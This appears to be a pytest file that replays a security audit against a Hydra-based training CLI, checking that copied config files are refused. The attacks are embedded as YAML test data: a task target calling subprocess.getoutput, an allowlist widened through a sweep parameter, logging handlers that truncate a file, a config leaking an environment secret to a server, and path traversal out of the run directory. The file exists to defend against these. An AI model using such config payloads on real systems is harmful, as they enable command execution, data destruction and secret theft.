"""The routes of the fourth audit, each done as the attacker did it, against the real CLI
(subprocesses; all marked slow): a copied config dir that runs code through a sweep's search
space, truncates a file through Hydra's logging, sends a secret to a server, plants a compiled
program through the cache dir or writes outside the run dir. Each is refused with exit 2 and one
line naming the file and the key, before Hydra acts on it; what users rely on keeps working."""

from __future__ import annotations

import http.server
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.cli import refused, run_train

pytestmark = pytest.mark.slow

COMMON = ["task=mlp", "mesh=cpu8", "trainer.batch_size=16", "trainer.steps=2", "checkpoint=none"]


def copied_dir(tmp_path: Path, files: dict[str, str]) -> Path:
    conf = tmp_path / "copied"
    for name, text in files.items():
        (conf / name).parent.mkdir(parents=True, exist_ok=True)
        (conf / name).write_text(textwrap.dedent(text))
    return conf


def train_in(tmp_path: Path, conf: Path, *overrides: str, env: dict[str, str] | None = None):
    flags = [o for o in overrides if o.startswith("-")]
    return run_train(
        *flags,
        f"--config-dir={conf}",
        *COMMON,
        *[o for o in overrides if not o.startswith("-")],
        f"hydra.run.dir={tmp_path / 'run'}",
        f"hydra.sweep.dir={tmp_path / 'sweep'}",
        cwd=tmp_path,
        check=False,
        env=env,
    )


EVIL_TASK = """\
    _target_: subprocess.getoutput
    cmd: "touch {canary}"
    """


def test_route_1_a_sweep_param_cannot_export_the_allowlist_to_its_jobs(tmp_path):
    """The audit's file, as it was: hydra.mode MULTIRUN, a sweep param that Hydra exports as
    XSHARD_ALLOWED_TARGETS to every job, and a copied task whose target runs a command."""
    canary = tmp_path / "canary"
    evil = """\
        # @package _global_
        defaults:
          - override /task: evil
        hydra:
          mode: MULTIRUN
          sweeper:
            params:
              +hydra.job.env_set.XSHARD_ALLOWED_TARGETS: subprocess.
        """
    conf = copied_dir(
        tmp_path, {"experiment/evil.yaml": evil, "task/evil.yaml": EVIL_TASK.format(canary=canary)}
    )
    result = train_in(tmp_path, conf, "experiment=evil")
    refused(result, f"config file {conf / 'experiment' / 'evil.yaml'} sets hydra.mode")
    assert not canary.exists()
    # without hydra.mode, typed -m: the sweep param itself is refused
    (conf / "experiment" / "evil.yaml").write_text(
        textwrap.dedent(evil).replace("  mode: MULTIRUN\n", "")
    )
    result = train_in(tmp_path, conf, "-m", "experiment=evil")
    refused(result, "sets hydra.sweeper.params.+hydra.job.env_set.XSHARD_ALLOWED_TARGETS")
    assert not canary.exists()
    assert not (tmp_path / "sweep").exists()


def test_route_1_env_set_never_widens_the_allowlist_even_from_the_command_line(tmp_path):
    canary = tmp_path / "canary"
    conf = copied_dir(tmp_path, {"task/evil.yaml": EVIL_TASK.format(canary=canary)})
    result = train_in(
        tmp_path, conf, "task=evil", "+hydra.job.env_set.XSHARD_ALLOWED_TARGETS=subprocess."
    )
    refused(result, "hydra.job.env_set.XSHARD_ALLOWED_TARGETS", "export XSHARD_ALLOWED_TARGETS")
    assert not canary.exists()


@pytest.mark.parametrize("handler_class", ["logging.FileHandler", "subprocess.Popen"])
def test_route_2_a_sweep_param_cannot_configure_hydras_logging(tmp_path, handler_class):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    handler = f"{{class: {handler_class}, filename: {victim}, mode: w}}"
    evil = f"""\
        # @package _global_
        hydra:
          sweeper:
            params:
              +hydra.job_logging.handlers.x: "{handler}"
        """
    conf = copied_dir(tmp_path, {"experiment/evil.yaml": evil})
    result = train_in(tmp_path, conf, "-m", "experiment=evil")
    refused(result, "sets hydra.sweeper.params.+hydra.job_logging.handlers.x")
    assert "Traceback" not in result.stderr
    assert victim.read_text() == "precious\n"


@pytest.fixture
def listening_server() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP server on 127.0.0.1; yields its URL and the paths it was asked for."""
    requests: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # the stdlib's name
            requests.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", requests
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("with_uri", [True, False], ids=["tracking_uri", "secret_only"])
def test_route_4_a_copied_file_sends_no_secret_anywhere(tmp_path, listening_server, with_uri):
    url, requests = listening_server
    uri = f"tracking_uri: {url}, " if with_uri else ""
    evil = f"""\
        # @package _global_
        defaults:
          - override /logger: mlflow
        logger:
          mlflow: {{{uri}experiment: "leak-${{oc.env:MY_SECRET_TOKEN}}"}}
        """
    conf = copied_dir(tmp_path, {"experiment/leak.yaml": textwrap.dedent(evil)})
    result = train_in(tmp_path, conf, "experiment=leak", env={"MY_SECRET_TOKEN": "s3cr3t"})
    key = "logger.mlflow.tracking_uri" if with_uri else "logger.mlflow.experiment"
    line = refused(result, f"sets {key}")
    assert "s3cr3t" not in line + result.stdout
    assert requests == []
    assert not (tmp_path / "run" / "mlruns").exists()


LOCATIONS = {
    "route 5 compilation cache": (
        "trainer: {compilation_cache_dir: ELSEWHERE}",
        "trainer.compilation_cache_dir",
    ),
    "route 7 job name": ("hydra: {job: {name: ../elsewhere/app}}", "hydra.job.name"),
    "route 7 tb dir": ("paths: {tb_dir: ELSEWHERE}", "paths.tb_dir"),
    "route 7 checkpoint dir": ("paths: {checkpoint_dir: ELSEWHERE}", "paths.checkpoint_dir"),
    "route 7 csv path": ("logger: {csv: {path: ELSEWHERE/m.csv}}", "logger.csv.path"),
    "run dir": ("hydra: {run: {dir: ELSEWHERE}}", "hydra.run.dir"),
    "coordinator": (
        "distributed: {coordinator_address: '203.0.113.9:1234'}",
        "distributed.coordinator_address",
    ),
}


@pytest.mark.parametrize("name", LOCATIONS)
def test_route_5_7_a_copied_file_chooses_no_place_outside_the_run_dir(tmp_path, name):
    text, key = LOCATIONS[name]
    elsewhere = tmp_path / "elsewhere"
    conf = copied_dir(
        tmp_path,
        {
            "experiment/out.yaml": "# @package _global_\n"
            + text.replace("ELSEWHERE", str(elsewhere))
        },
    )
    result = train_in(tmp_path, conf, "experiment=out", "logger=[tensorboard,csv]")
    refused(result, f"config file {conf / 'experiment' / 'out.yaml'} sets {key}")
    assert not elsewhere.exists()
    assert not (tmp_path / "run").exists()


def test_route_12_experimental_rerun_is_refused(tmp_path):
    pickle_file = tmp_path / "config.pickle"
    pickle_file.write_bytes(b"\x80\x04N.")
    result = run_train("--experimental-rerun", str(pickle_file), cwd=tmp_path, check=False)
    refused(result, "--experimental-rerun unpickles")


def test_route_12_a_shadowed_option_of_the_users_dir_is_named(tmp_path):
    """With xshard's CLI, the package's own options come first: a user's file of the same
    name is not used, and the run says so (one warning line) instead of staying silent."""
    conf = copied_dir(tmp_path, {"optimizer/adamw.yaml": "learning_rate: 0.0777\n"})
    result = train_in(tmp_path, conf, "--cfg=job", "optimizer=adamw")
    assert result.returncode == 0, result.stderr
    warning = [line for line in result.stderr.splitlines() if "warning" in line]
    assert len(warning) == 1 and f"{conf}/optimizer/adamw.yaml is not used" in warning[0]
    assert "0.0777" not in result.stdout


def test_what_copied_files_may_do_still_works(tmp_path):
    """Values of declared keys, a group option, and a sweep over config keys with -m."""
    conf = copied_dir(
        tmp_path,
        {
            "experiment/mine.yaml": """\
                # @package _global_
                defaults:
                  - override /optimizer: sgd
                optimizer: {learning_rate: 0.003}
                trainer: {log_every: 1}
                hydra:
                  sweeper:
                    params:
                      optimizer.learning_rate: 0.003,0.01
                """
        },
    )
    result = train_in(tmp_path, conf, "-m", "experiment=mine")
    assert result.returncode == 0, result.stderr[-3000:]
    saved = sorted((tmp_path / "sweep").glob("*/.hydra/config.yaml"))
    assert len(saved) == 2
    assert {"learning_rate: 0.003" in s.read_text() for s in saved} == {True, False}


@pytest.mark.parametrize(
    "text, problem",
    [
        ("trainer:\n  steps: [1,\n", "expected the node content"),  # cut short
        ("trainer:\n\tsteps: 3\n", "found character '\\t'"),  # a tab in the indent
    ],
)
def test_a_copied_file_that_is_not_yaml_is_one_line_naming_it(tmp_path, text, problem):
    conf = tmp_path / "copied"
    (conf / "experiment").mkdir(parents=True)
    (conf / "experiment" / "broken.yaml").write_text(text)
    result = train_in(tmp_path, conf, "experiment=broken")
    refused(result, f"{conf / 'experiment' / 'broken.yaml'}, line ", "not valid YAML", problem)
    assert not (tmp_path / "run").exists()  # refused before the run dir is made
